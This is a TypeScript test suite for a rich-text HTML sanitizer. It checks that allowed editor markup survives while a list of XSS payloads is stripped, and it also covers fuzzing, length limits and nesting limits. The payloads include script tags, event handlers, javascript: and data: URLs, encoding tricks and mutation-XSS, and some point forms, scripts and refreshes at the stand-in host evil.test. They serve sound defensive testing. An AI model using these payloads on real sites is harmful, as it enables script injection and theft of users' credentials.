import fc from 'fast-check';
import { expect, test } from 'vitest';
import { isRichTextLink, richTextDepthMaximum, richTextTags } from '@hearth/contract/library/rich-text';
import { cleanRichText } from './rich-text.ts';

const clean = (sent: string) => cleanRichText(sent, ['body', 'content', 'text']);

/** The tags of sanitized text, with attributes. */
const tagsOf = (written: string) =>
  [...written.matchAll(/<(\/?)([^\s/>]*)([^>]*?)\/?>/g)].map(([, , name = '', attributes = '']) => ({
    name,
    attributes: [...attributes.matchAll(/([^\s=]+)="([^"]*)"/g)].map(([, key = '', value = '']) => ({ key, value })),
    rest: attributes.replace(/([^\s=]+)="([^"]*)"/g, '').trim(),
  }));

const expectHarmless = (written: string) => {
  for (const { name, attributes, rest } of tagsOf(written)) {
    expect(Object.keys(richTextTags)).toContain(name);
    expect(rest).toBe('');
    for (const { key, value } of attributes) {
      expect(richTextTags[name]).toContain(key);
      expect(isRichTextLink(value)).toBe(true);
    }
  }
  expect(written.replace(/<[^<>]*>/g, '')).not.toMatch(/[<>]/);
};

test("the editor's output is stored unchanged", () => {
  const written =
    '<h1>Pool</h1><h2>Hours</h2><h3>Rules</h3><p>Open <strong>daily</strong>, <em>mostly</em> <u>until 9</u><br />or so</p>' +
    '<ul><li><p>Towels</p></li></ul><ol><li><p>Shower</p></li></ol>' +
    '<p><a href="https://hearth.test/pool?a=1">More</a> or <a href="mailto:pool@hearth.test">write</a>, {{first_name}}</p>';
  expect(clean(written)).toBe(written);
});

test('legacy tags are converted, and an unsafe link becomes plain text', () => {
  expect(clean('<p><b>a</b><i>b</i><a href="/local">c</a><a>d</a><a href="//evil.test">e</a></p>')).toBe(
    '<p><strong>a</strong><em>b</em>cde</p>',
  );
});

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))" class="x" id="root">a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="https://ok.test" target="_top" onmouseover="alert(1)" ping="//evil.test">a</a>',
  '<a href="https://ok.test&quot; onclick=&quot;alert(1)">a</a>',
  '<a href=\'https://ok.test" onclick="alert(1)\'>a</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="//evil.test"><input name="password"><button formaction="javascript:alert(1)">a</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.test"><base href="//evil.test/"><link rel=stylesheet href=//evil.test>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p><details open ontoggle=alert(1)>a</details>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<p/onmouseover=alert(1)>a',
  '<p><<p>img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>{{first_name}}<img src=x onerror=alert(1)>',
];

test.each(attacks)('nothing in %s survives that could run, load or mislead', (attack) => {
  const stored = clean(attack);
  expectHarmless(stored);
  expect(stored).not.toMatch(/<script|<img|javascript:|<svg|<iframe/i);
  expect(clean(stored)).toBe(stored);
});

test('any input is harmless once stored, and storing it again changes nothing harmful', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...attacks,
      '<p>',
      '</p>',
      '<a href="',
      '">',
      '<!--',
      '-->',
      '<li>',
      '"',
      "'",
      '&lt;',
      '<',
      '>',
      '=',
    ),
    fc.string({ maxLength: 8 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const stored = clean(pieces.join(''));
      expectHarmless(stored);
      expectHarmless(clean(stored));
    }),
    { numRuns: 300 },
  );
});

test('the length limit applies to the text as stored', () => {
  expect(() => clean('<'.repeat(19_000))).toThrow('Text must be 20,000 characters or less');
});

test('refusing oversized text is faster than sanitizing valid text', () => {
  const timeOf = (work: () => unknown) => {
    const started = performance.now();
    work();
    return performance.now() - started;
  };
  // Alternate and take the fastest of each, because a busy machine slows down single tries.
  const tries = Array.from({ length: 20 }, () => ({
    read: timeOf(() => clean('<'.repeat(5000))),
    refused: timeOf(() => expect(() => clean('<'.repeat(20_000))).toThrow('20,000 characters')),
  }));
  const fastest = (of: 'read' | 'refused') => Math.min(...tries.map((each) => each[of]));
  expect(fastest('refused')).toBeLessThan(fastest('read'));
});

test('nesting of lists is limited, and deep input is fast', () => {
  const started = performance.now();
  const stored = clean(`${'<ul><li>'.repeat(2000)}deep`);
  expect(stored.match(/<ul>|<li>/g)?.length).toBeLessThanOrEqual(richTextDepthMaximum);
  expect(stored).toContain('deep');
  expect(performance.now() - started).toBeLessThan(2000);
});
